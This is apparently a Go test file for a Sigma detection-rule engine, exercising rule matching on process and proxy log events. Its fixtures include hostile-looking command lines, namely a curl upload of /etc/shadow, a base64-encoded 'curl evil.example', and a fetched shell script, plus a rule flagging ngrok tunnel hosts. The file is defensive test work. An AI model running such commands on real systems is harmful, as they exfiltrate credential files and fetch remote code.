package sigma

import (
	"slices"
	"strings"
	"testing"

	"github.com/cordon-ir/cordon/evidence"
)

// ruleOn is a linux process_creation rule with the given detection.
func ruleOn(detection string) string {
	return `title: Test rule
id: 11111111-2222-4333-8444-555555555555
level: high
logsource:
    product: linux
    category: process_creation
detection:
` + detection
}

func TestMatchSemantics(t *testing.T) {
	evs := []evidence.Event{
		exec("e1", "agent-1", 0, "/usr/bin/curl -s https://Example.COM/x.sh"),
		exec("e2", "agent-1", 1, "/usr/bin/wget -q http://10.0.0.5/a"),
		exec("e3", "agent-2", 2, "/bin/bash -c echo Y3VybCBldmlsLmV4YW1wbGU= | base64 -d"),
		exec("e4", "agent-2", 3, "/usr/bin/python3 /tmp/run.py"),
		exec("e5", "agent-3", 4, "/usr/bin/CURL --upload-file /etc/shadow http://x"),
	}
	cases := []struct {
		name      string
		detection string
		want      []string
	}{
		{"equal is case-insensitive", `    sel:
        Image: '/USR/BIN/CURL'
    condition: sel`, []string{"e1", "e5"}},
		{"cased equal does not fold", `    sel:
        Image|cased: '/usr/bin/curl'
    condition: sel`, []string{"e1"}},
		{"contains folds case", `    sel:
        CommandLine|contains: 'example.com'
    condition: sel`, []string{"e1"}},
		{"cased contains misses another case", `    sel:
        CommandLine|contains|cased: 'example.com'
    condition: sel`, nil},
		{"endswith", `    sel:
        Image|endswith: '/wget'
    condition: sel`, []string{"e2"}},
		{"startswith list", `    sel:
        CommandLine|startswith:
            - '/usr/bin/python'
            - '/bin/bash'
    condition: sel`, []string{"e3", "e4"}},
		{"contains all", `    sel:
        CommandLine|contains|all:
            - 'curl'
            - 'upload-file'
    condition: sel`, []string{"e5"}},
		{"wildcards", `    sel:
        CommandLine: '*curl -? *'
    condition: sel`, []string{"e1"}},
		{"escaped wildcard is literal", `    sel:
        CommandLine|contains: 'x\*'
    condition: sel`, nil},
		{"re is case-sensitive", `    sel:
        CommandLine|re: 'wget -q http://[0-9.]+/'
    condition: sel`, []string{"e2"}},
		{"re with i", `    sel:
        CommandLine|re|i: '^/USR/BIN/(WGET|PYTHON3) '
    condition: sel`, []string{"e2", "e4"}},
		{"windash", `    sel:
        CommandLine|windash|contains: ' /q '
    condition: sel`, []string{"e2"}},
		{"base64offset contains", `    sel:
        CommandLine|base64offset|contains: 'evil.example'
    condition: sel`, []string{"e3"}},
		{"base64 whole value", `    sel:
        CommandLine|base64|contains: 'curl evil.example'
    condition: sel`, []string{"e3"}},
		{"exists", `    sel:
        User|exists: true
    filter:
        CommandLine|contains: python
    condition: sel and not filter`, []string{"e1", "e2", "e3", "e5"}},
		{"exists false", `    sel:
        ProcessId|exists: false
    condition: sel`, []string{"e1", "e2", "e3", "e4", "e5"}},
		{"neq", `    sel:
        Image|neq: '/usr/bin/curl'
    condition: sel`, []string{"e2", "e3", "e4"}},
		{"1 of pattern", `    selection_a:
        Image|endswith: '/wget'
    selection_b:
        Image|endswith: '/python3'
    filter:
        CommandLine|contains: nothing-here
    condition: 1 of selection_* and not filter`, []string{"e2", "e4"}},
		{"all of pattern", `    sel_img:
        Image|endswith: '/curl'
    sel_cmd:
        CommandLine|contains: upload
    condition: all of sel_*`, []string{"e5"}},
		{"1 of them skips underscore", `    a:
        Image|endswith: '/wget'
    _b:
        Image|endswith: '/bash'
    condition: 1 of them`, []string{"e2"}},
		{"all of them", `    a:
        Image|endswith: '/curl'
    b:
        CommandLine|contains: 'http'
    condition: all of them`, []string{"e1", "e5"}},
		{"parentheses and precedence", `    a:
        Image|endswith: '/curl'
    b:
        Image|endswith: '/wget'
    c:
        CommandLine|contains: 'upload'
    condition: (a or b) and not c`, []string{"e1", "e2"}},
		{"not binds tighter than and", `    a:
        Image|endswith: '/curl'
    c:
        CommandLine|contains: 'upload'
    condition: not c and a`, []string{"e1"}},
		{"list of maps is or", `    sel:
        - Image|endswith: '/wget'
        - CommandLine|contains: 'run.py'
    condition: sel`, []string{"e2", "e4"}},
		{"keywords", `    keywords:
        - 'SHADOW'
    condition: keywords`, []string{"e5"}},
		{"keywords all", `    keywords:
        '|all':
            - 'curl'
            - 'shadow'
    condition: keywords`, []string{"e5"}},
		{"condition list is or", `    a:
        Image|endswith: '/wget'
    b:
        Image|endswith: '/python3'
    condition:
        - a
        - b`, []string{"e2", "e4"}},
		{"null is no value", `    sel:
        Image|endswith: '/curl'
    f:
        User: null
    condition: sel and not f`, []string{"e1", "e5"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			rules := mustLoad(t, ruleOn(c.detection))
			got := fired(scan(t, rules, evs), rules[0].ID)
			slices.Sort(got)
			if strings.Join(got, ",") != strings.Join(c.want, ",") {
				t.Errorf("matched %v, want %v\nfilter %s", got, c.want, rules[0].Filter)
			}
		})
	}
}

func TestNumericCidrFieldref(t *testing.T) {
	evs := []evidence.Event{
		request("r1", "agent-1", 0, "POST", "http://a.example/up", "a.example"),
		request("r2", "agent-1", 1, "GET", "http://b.example/", "b.example"),
	}
	evs[0].BytesOut, evs[1].BytesOut = 5000000, 200
	evs[0].DstIP, evs[1].DstIP = "10.1.2.3", "192.168.1.1"
	evs[1].User = "b.example"
	cases := []struct {
		name, detection string
		want            []string
	}{
		{"gt", `    sel:
        cs-bytes|gt: 1000000
    condition: sel`, []string{"r1"}},
		{"lte", `    sel:
        cs-bytes|lte: 200
    condition: sel`, []string{"r2"}},
		{"cidr", `    sel:
        dst_ip|cidr: 10.0.0.0/8
    condition: sel`, []string{"r1"}},
		{"fieldref", `    sel:
        cs-host|fieldref: cs-username
    condition: sel`, []string{"r2"}},
		{"integer value", `    sel:
        sc-status: 200
        cs-method: get
    condition: sel`, []string{"r2"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			rules := mustLoad(t, `title: Proxy test
id: 21111111-2222-4333-8444-555555555555
logsource:
    category: proxy
detection:
`+c.detection)
			evs := slices.Clone(evs)
			if strings.Contains(c.detection, "cs-bytes") {
				// Envoy logs a request's size; Squid's native format does
				// not, and an item on it is false on Squid's events
				for i := range evs {
					evs[i].Format = "envoy"
				}
			}
			got := fired(scan(t, rules, evs), rules[0].ID)
			slices.Sort(got)
			if strings.Join(got, ",") != strings.Join(c.want, ",") {
				t.Errorf("matched %v, want %v\nfilter %s", got, c.want, rules[0].Filter)
			}
		})
	}
}

// TestFieldTheFormatDoesNotWrite: Squid's native format has no
// User-Agent, so an empty User-Agent is not what its events show: a rule
// on it fires on Envoy's events only; a rule on a field no source of
// its log source writes loads and is listed as unfed.
func TestFieldTheFormatDoesNotWrite(t *testing.T) {
	rules := mustLoad(t, `title: Empty UA
id: 22111111-2222-4333-8444-555555555555
logsource:
    category: proxy
detection:
    sel:
        c-useragent: ''
    condition: sel`)
	squid := request("s1", "agent-1", 0, "GET", "http://a.example/", "a.example")
	envoy := request("e1", "agent-1", 1, "GET", "a.example/", "a.example")
	envoy.Format = "envoy"
	withUA := envoy
	withUA.ID, withUA.UserAgent = "e2", "curl/8.7.1"
	got := fired(scan(t, rules, []evidence.Event{squid, envoy, withUA}), rules[0].ID)
	if strings.Join(got, ",") != "e1" {
		t.Errorf("matched %v, want e1 alone", got)
	}
	set := loadText(t, `title: Tunnel host
id: 23111111-2222-4333-8444-555555555555
logsource:
    product: linux
    category: network_connection
detection:
    sel:
        DestinationHostname|endswith: '.ngrok.io'
    condition: sel`)
	if len(set.Rules) != 1 || len(set.Unfed) != 1 || !strings.Contains(set.Unfed[0].Reason, "no source cordon reads writes dst_host") {
		t.Errorf("rules %d, unfed %v: want it loaded and listed as unfed", len(set.Rules), set.Unfed)
	}
}
